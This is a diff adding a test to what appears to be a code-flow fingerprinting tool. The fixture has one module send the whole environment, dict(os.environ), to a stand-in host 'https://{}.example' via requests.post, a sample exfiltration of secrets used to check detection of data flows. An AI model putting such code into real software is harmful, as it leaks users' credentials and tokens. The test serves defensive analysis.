@@ -195,3 +195,15 @@ def test_an_f_string_that_not_every_python_can_write_is_told_by_its_tree(tmp_pat
     same = "def other(x):\n    return x\n" + code.format("a")
     assert prints(tmp_path / "same", {"sample/__init__.py": same}) == old
     assert not prints(tmp_path / "new", {"sample/__init__.py": code.format("b")}) & old
+
+
+def test_what_another_module_does_with_what_it_is_given_belongs_to_the_flow(tmp_path: Path) -> None:
+    main = "import os\nfrom .b import deliver\ndeliver(dict(os.environ))\n"
+    other = (
+        "import requests\ndef deliver(data):\n    requests.post('https://{}.example', json=data)\n"
+    )
+
+    old = prints(tmp_path / "old", {"sample/__init__.py": main, "sample/b.py": other.format("a")})
+    new = prints(tmp_path / "new", {"sample/__init__.py": main, "sample/b.py": other.format("b")})
+
+    assert not old & new
